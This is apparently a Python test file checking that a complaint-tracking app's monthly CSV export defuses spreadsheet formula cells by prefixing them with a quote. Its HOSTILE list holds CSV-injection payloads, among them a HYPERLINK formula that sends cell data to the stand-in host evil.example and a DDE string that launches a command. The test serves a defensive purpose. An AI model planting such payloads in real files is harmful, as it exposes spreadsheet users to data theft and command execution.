"""Issue 16: the CSV exports neutralise formula cells (= + - @): a complaint typed as a formula comes
out of /reports/export.csv as text Excel will not run; numbers stay numbers."""

from __future__ import annotations

import csv
import io

from app.clock import now, zone
from tests.support.sync import sync_one

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


async def test_the_month_export_neutralises_formula_cells(client, new_client, office, make_staff, login):
    desk = await make_staff(office["id"], "frontdesk")
    token = await login(client, desk)
    for text in HOSTILE:
        data = {"channel": "phone", "kind": "complaint", "description": text, "location": "3栋大堂"}
        assert (await sync_one(client, token, "request.create", data))["status"] == "applied"
    supervisor = await make_staff(office["id"], "supervisor")
    async with new_client() as sup:
        await login(sup, supervisor)
        month = now().astimezone(zone()).strftime("%Y-%m")
        response = await sup.get(f"/reports/export.csv?kind=complaints&month={month}")
    assert response.status_code == 200 and response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    descriptions = sorted(row[1] for row in rows[1:])
    assert descriptions == sorted("'" + text for text in HOSTILE)
